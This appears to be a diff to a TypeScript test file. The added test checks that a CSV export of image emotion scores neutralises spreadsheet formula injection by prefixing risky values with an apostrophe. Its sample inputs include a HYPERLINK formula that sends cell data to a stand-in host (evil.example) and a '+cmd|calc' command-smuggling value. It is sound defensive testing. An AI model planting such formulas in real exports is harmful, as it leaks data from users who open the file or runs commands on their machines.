@@ -7,6 +7,7 @@ import {
   loadProgress,
   PROMPT_TYPE_NAMES,
   scoresCsv,
+  spreadsheetText,
   upscaleFactor,
   webGpuFallbackNotice,
   type GalleryEntry,
@@ -119,5 +120,12 @@ describe('what the page shows', () => {
     expect(records.map((r) => r.cells.file)).toEqual(['odd, "name".jpg', 'two\nlines.png']);
     expect(records[1]!.cells).toMatchObject({ region: 'face 1', p_happiness: '0.4', box_x: '1.5', no_face: '0' });
     expect(() => scoresCsv(gallery, ['happiness', 'anger'], {})).toThrow(/has no score for class 'anger'/);
+    // a file name or setting a spreadsheet would run as a formula gets a leading ' (OWASP); numbers stay numbers
+    const formula = [{ ...gallery[0]!, name: '=HYPERLINK("http://evil.example/?"&A1,"click").jpg' }];
+    const cells = parseCsvText(scoresCsv(formula, ['happiness', 'sadness'], { model: '@SUM(1+1)' }), 's.csv')
+      .records[0]!.cells;
+    expect(cells).toMatchObject({ file: `'=HYPERLINK("http://evil.example/?"&A1,"click").jpg`, model: `'@SUM(1+1)` });
+    for (const t of ['+cmd|calc.jpg', '-2+3.jpg', '\tx.jpg', '\rx.jpg']) expect(spreadsheetText(t)).toBe(`'${t}`);
+    expect(spreadsheetText('a-b=c.jpg')).toBe('a-b=c.jpg');
   });
 });
